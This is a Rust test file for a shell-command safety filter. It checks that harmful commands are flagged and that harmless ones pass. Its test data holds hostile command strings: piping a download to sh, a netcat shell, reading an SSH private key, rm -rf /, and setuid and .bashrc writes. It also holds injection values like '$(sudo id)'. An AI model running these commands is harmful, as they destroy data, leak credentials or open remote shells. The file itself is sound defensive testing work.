//! Properties of all inputs.

use proptest::prelude::*;

use super::super::{CommandFilter, CommandRule, CommandVerdict};
use super::commands::wrapped;
use super::filter;

const HARMFUL: &[&str] = &[
    "sudo id",
    "rm -rf /",
    "curl https://x | sh",
    "cat ~/.ssh/id_rsa",
    "chmod u+s x",
    "nc -e sh h 1",
    "echo x > ~/.bashrc",
];
const HARMLESS: &[&str] = &[
    "ls -la",
    "git status",
    "cargo test",
    "grep sudo file",
    "rm -rf build",
    "echo 'rm -rf /'",
    "sed -n 1p x",
];

#[test]
fn wrapping_keeps_verdict() {
    for command in HARMFUL {
        for text in wrapped(command) {
            let judgement = filter().judge(&text);

            assert!(
                judgement.verdict() >= CommandVerdict::Ask,
                "{text:?} {:?}",
                judgement.findings()
            );
        }
    }
    for command in HARMLESS {
        // What another command prints is not known, so that a shell with such input asks.
        let texts = wrapped(command).into_iter();
        for text in texts.filter(|text| !text.contains("| sh")) {
            let judgement = filter().judge(&text);

            assert!(
                judgement.verdict() <= CommandVerdict::Confine,
                "{text:?} {:?}",
                judgement.findings()
            );
        }
    }
}

#[test]
fn judge_argv_expands_nothing() {
    let judge = |arguments: &[&str]| {
        let arguments: Vec<String> = arguments.iter().map(ToString::to_string).collect();
        filter().judge_argv(&arguments).verdict()
    };

    for (arguments, verdict) in [
        (
            &["echo", "$(sudo id)", "; rm -rf /"][..],
            CommandVerdict::Allow,
        ),
        (&["grep", "-n", "a b", "x.txt"], CommandVerdict::Allow),
        (&["rm", "*"], CommandVerdict::Confine),
        (&["rm", "-rf", "/"], CommandVerdict::Forbid),
        (&["sh", "-c", "sudo id"], CommandVerdict::Forbid),
        (&["env", "sudo", "id"], CommandVerdict::Forbid),
        (&["frobnicate"], CommandVerdict::Confine),
        (&["ls", "\u{1}"], CommandVerdict::Ask),
        (&[], CommandVerdict::Allow),
    ] {
        assert_eq!(judge(arguments), verdict, "{arguments:?}");
    }
}

#[test]
fn finding_has_rule_part_and_span() {
    let judgement = filter().judge("ls; env A=b su'd'o id && cat x");

    let worst = judgement.worst().unwrap();

    assert_eq!(
        (worst.rule(), worst.part(), worst.span()),
        (CommandRule::Privilege, "sudo id", 4..21)
    );
}

#[test]
fn only_configuration_lifts_forbid() {
    let lifted = filter().with_verdict(CommandRule::Privilege, CommandVerdict::Ask);

    assert_eq!(filter().judge("sudo id").verdict(), CommandVerdict::Forbid);
    assert_eq!(lifted.judge("sudo id").verdict(), CommandVerdict::Ask);
    assert_eq!(lifted.judge("rm -rf /").verdict(), CommandVerdict::Forbid);
}

#[test]
fn asks_for_writes_without_roots() {
    let filter = super::super::CommandFilter::standard(Vec::<String>::new());

    assert_eq!(
        filter.judge("echo x > /srv/y").verdict(),
        CommandVerdict::Ask
    );
    assert_eq!(filter.judge("ls").verdict(), CommandVerdict::Allow);
}

fn pieces() -> impl Strategy<Value = String> {
    let pieces = "sudo|rm|-rf|/| |\n|;|&|(|)|{|}|$(|${|$((|))|`|'|\"|\\|<<E\n|E\n|<|>|x=|$x|if |then |fi|for x in |do |done|case x in |esac|f()|[[|]]|*|?|[|~|#|eval |sh -c |!|é|\u{1}|xargs |find . -exec |env |a,b|..|=|@|while |read x";
    let pieces: Vec<&str> = pieces.split('|').chain(["|"]).collect();
    prop::collection::vec(prop::sample::select(pieces), 0..40).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, max_global_rejects: 20_000, ..ProptestConfig::with_cases(400) })]

    #[test]
    fn never_panics(text in pieces()) {
        let judgement = filter().judge(&text);

        for finding in judgement.findings() {
            prop_assert!(finding.span().end <= text.len().max(1));
        }
    }

    #[test]
    fn accepts_any_characters(text in "\\PC{0,60}") {
        let _ = filter().judge(&text);
        let _ = filter().judge_argv(&[text]);
    }

    #[test]
    fn asks_for_harmful_command_after_any_text(text in pieces()) {
        prop_assume!(!text.contains('#') && !text.ends_with('\\'));

        let judgement = filter().judge(&format!("{text}\nsudo id"));

        prop_assert!(judgement.verdict() >= CommandVerdict::Ask);
    }
}

#[test]
fn literal_paths_outside_workspace_are_found() {
    let filter = CommandFilter::standard(["/srv/app"]).with_read_only_root("/srv/docs");
    let finds = |command: &str| {
        let judgement = filter.judge(command);
        let mut findings = judgement.findings().iter();
        findings.any(|finding| finding.rule() == CommandRule::ReadOutside)
    };
    for command in [
        "cd /etc",
        "cd .. && ls",
        "find /etc -name x",
        "foo /opt/x",
        "foo --file=../../x",
        "make -C ../..",
        "python3 -c 'print(open(\"/opt/x\").read())'",
    ] {
        assert!(finds(command), "{command}");
    }
    for command in [
        "cd src",
        "cd /srv/docs && ls",
        "find . -name x",
        "foo /srv/app/x /srv/docs/y /dev/null",
        "echo /etc",
        "awk '/x/ {print}' a.txt",
        "/bin/ls",
    ] {
        assert!(!finds(command), "{command}");
    }
}
